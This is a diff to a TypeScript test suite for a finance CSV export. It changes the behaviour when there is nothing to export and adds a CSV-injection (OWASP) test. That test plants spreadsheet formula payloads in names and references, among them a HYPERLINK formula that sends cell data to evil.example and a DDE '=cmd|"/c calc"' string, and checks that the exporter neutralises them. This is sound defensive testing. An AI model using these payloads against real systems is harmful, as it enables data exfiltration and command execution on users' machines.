@@ -65,6 +65,7 @@ describe('finance export', () => {
       });
     return res;
   };
+  const exportCount = async () => (await t.db.query(`SELECT count(*)::int AS n FROM finance_exports`)).rows[0].n as number;
   const exported = async () =>
     (await t.db.query(`SELECT document_id, count(*)::int AS times FROM finance_export_documents GROUP BY document_id`)).rows as Array<{ document_id: string; times: number }>;
 
@@ -112,10 +113,12 @@ describe('finance export', () => {
     expect(body.find((r) => r.budget_reference === 'ESX-1')).toMatchObject({ unit_price: '500.00', vat_amount: '0.00', gross_amount: '500.00', po_number: '' });
     expect(file.body).toContain('"PB, ""quoted"""');
 
-    // nothing new: an empty export
+    // nothing new: no export is created (a daily job would leave an empty one a day), 200 instead of 201
+    const exportsBefore = await exportCount();
     const again = await exportNow();
-    expect(again.body).toMatchObject({ documentCount: 0, totalPence: 0, rowCount: 0 });
-    expect(parseCsv((await csvOf(again.body.id)).body as string)).toEqual([HEADER.split(',')]);
+    expect(again.status).toBe(200);
+    expect(again.body).toEqual({ id: null, documentCount: 0, totalPence: 0, rowCount: 0, createdAt: null });
+    expect(await exportCount()).toBe(exportsBefore);
     expect((await exported()).every((e) => e.times === 1)).toBe(true);
   });
 
@@ -124,13 +127,18 @@ describe('finance export', () => {
     await runQuarter(t, Q);
     const before = (await exported()).length;
     const total = (await allDocuments(t)).length;
+    const exportsBefore = await exportCount();
     const [x, y, z] = await Promise.all([exportNow(), exportNow(), exportNow()]);
-    expect([x.status, y.status, z.status]).toEqual([201, 201, 201]);
+    // one that found everything claimed by the others created nothing: 200 with id null
+    for (const res of [x, y, z]) expect(res.status === 201 ? typeof res.body.id : res.body).toEqual(res.status === 201 ? 'string' : { id: null, documentCount: 0, totalPence: 0, rowCount: 0, createdAt: null });
+    const created = [x, y, z].filter((r) => r.status === 201);
+    expect(created.length).toBeGreaterThanOrEqual(1);
+    expect(await exportCount()).toBe(exportsBefore + created.length);
     expect(x.body.documentCount + y.body.documentCount + z.body.documentCount).toBe(total - before);
     const rows = await exported();
     expect(rows).toHaveLength(total);
     expect(rows.every((e) => e.times === 1)).toBe(true);
-    const files = await Promise.all([x, y, z].map((r) => csvOf(r.body.id)));
+    const files = await Promise.all(created.map((r) => csvOf(r.body.id)));
     const numbers = files.flatMap((f) => [...new Set(parseCsv(f.body as string).slice(1).map((r) => r[0]))]);
     expect(numbers).toHaveLength(total - before);
     expect(new Set(numbers).size).toBe(total - before);
@@ -148,10 +156,12 @@ describe('finance export', () => {
       const rows = parseCsv(await readFile(out, 'utf8'));
       expect(rows).toHaveLength(2);
       expect(rows[1][7]).toBe('DP-CLI');
-      // nothing left: an empty file with its header, still a success
+      // nothing left: no export is created, the file holds the header alone, still a success
+      const exportsBefore = await exportCount();
       const { stdout: empty } = await run(process.execPath, ['dist/src/finance-exports/finance-export-cli.js', '--out', out], { env });
-      expect(empty).toMatch(/: 0 documents, 0 rows, total £0\.00/);
+      expect(empty).toMatch(/^Nothing to export: every issued document is already in an export\. Wrote the header only → /);
       expect(await readFile(out, 'utf8')).toBe(`${HEADER}\r\n`);
+      expect(await exportCount()).toBe(exportsBefore);
       // a failure exits non-zero
       await expect(run(process.execPath, ['dist/src/finance-exports/finance-export-cli.js'], { env })).rejects.toMatchObject({ code: 2 });
       await expect(
@@ -170,6 +180,56 @@ describe('finance export', () => {
     expect((await t.api().get('/api/v1/finance-exports/nope/file').set(bearer(finance.token))).status).toBe(400);
     const list = await t.api().get('/api/v1/finance-exports').set(bearer(finance.token));
     expect(list.status).toBe(200);
-    expect(list.body.items.length).toBeGreaterThanOrEqual(5);
+    expect(list.body.items.length).toBeGreaterThanOrEqual(3); // the exports that held documents (nothing to export creates none)
+  });
+});
+
+describe('finance export: CSV injection (OWASP)', () => {
+  let t: TestApp;
+
+  beforeAll(async () => {
+    t = await createTestApp({ env: { BILLING_DISPATCH_INTERVAL_MS: '500' } });
+  });
+  afterAll(() => t?.close());
+
+  it('writes names, references and descriptions a spreadsheet would run as formulas as text, and amounts as numbers', async () => {
+    const w = await billingWorld(t);
+    const finance = await w.f.user('finance');
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Arts Pioneers")';
+    expect((await t.api().patch(`/api/v1/programmes/${w.programme.id}`).set(bearer(t.adminToken)).send({ name: hyperlink })).status).toBe(200);
+    const first = await w.place({ type: 'direct_payment', reference: 'DP-EQ', holderName: '=1+2' });
+    await w.place({ type: 'direct_payment', reference: 'DP-PLUS', holderName: '+SUM(A1:A9)' });
+    await w.place({ type: 'direct_payment', reference: 'DP-AT', holderName: '@cmd' });
+    await w.place({ reference: '=cmd|"/c calc"!A1' });
+    await runQuarter(t, '2026-Q4');
+    // a backdated withdrawal: a credit note, whose amounts are negative numbers
+    await t.api().post(`/api/v1/registrations/${first.registration.id}/withdraw`).set(bearer(t.adminToken)).send({ reason: 'x', effectiveOn: '2026-09-02' });
+    await runQuarter(t, '2026-Q4');
+
+    const created = await t.api().post('/api/v1/finance-exports').set(bearer(finance.token));
+    expect(created.status).toBe(201);
+    const file = await t.api().get(`/api/v1/finance-exports/${created.body.id}/file`).set(bearer(finance.token)).buffer(true)
+      .parse((response, done) => {
+        let text = '';
+        response.setEncoding('utf8');
+        response.on('data', (c: string) => (text += c));
+        response.on('end', () => done(null, text));
+      });
+    const text = file.body as string;
+    const rows = parseCsv(text).slice(1).map((r) => Object.fromEntries(HEADER.split(',').map((h, i) => [h, r[i]])));
+    expect(rows.map((r) => r.customer_name)).toEqual(expect.arrayContaining(["'=1+2", "'+SUM(A1:A9)", "'@cmd"]));
+    expect(rows.map((r) => r.budget_reference)).toContain(`'=cmd|"/c calc"!A1`);
+    expect(text).toContain(`"'=cmd|""/c calc""!A1"`);
+    for (const row of rows) {
+      // an invoice line is described by the programme's name (a credit note's by "Credit: " and the name)
+      const described = row.document_type === 'invoice' ? row.description.startsWith(`'${hyperlink}`) : row.description.startsWith(`Credit: ${hyperlink}`);
+      expect({ description: row.description, described }).toEqual({ description: row.description, described: true });
+      // no text cell starts with a formula character
+      for (const h of ['customer_code', 'customer_name', 'po_number', 'budget_reference', 'description']) expect(row[h]).not.toMatch(/^[=+\-@\t\r]/);
+      for (const h of ['unit_price', 'net_amount', 'vat_amount', 'gross_amount']) expect(row[h]).toMatch(/^-?\d+\.\d{2}$/);
+    }
+    const credit = rows.find((r) => r.document_type === 'credit_note')!;
+    expect(credit.customer_name).toBe("'=1+2");
+    expect(credit.net_amount).toMatch(/^-\d+\.\d{2}$/);
   });
 });
